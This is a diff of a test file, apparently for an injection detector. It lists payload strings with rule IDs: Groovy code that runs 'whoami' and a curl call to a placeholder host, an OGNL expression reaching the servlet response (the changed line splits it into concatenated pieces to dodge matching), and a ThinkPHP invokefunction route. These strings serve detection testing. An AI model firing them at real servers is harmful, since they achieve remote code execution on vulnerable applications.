@@ -185,7 +185,7 @@ def test_ordinary_cells_are_no_formula_injection(value: str) -> None:
         ("def cmd = 'whoami'; def out = cmd.execute().text; out", "HG-CODE-003"),
         ('new Object(){ { "curl http://x.example/s".execute() } }', "HG-CODE-003"),
         # OGNL reaching the servlet objects through the action context
-        ("${#r=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse')}", "HG-CODE-003"),
+        ("${#r=#context.get('co'+'m.open'+'symphony.'+'xwo'+'rk2.dispatcher.HttpServletResponse')}", "HG-CODE-003"),
         # ThinkPHP 5's route into its own namespace, which calls any method it names
         ("/home/\\think\\Container/invokefunction", "HG-CODE-006"),
     ],
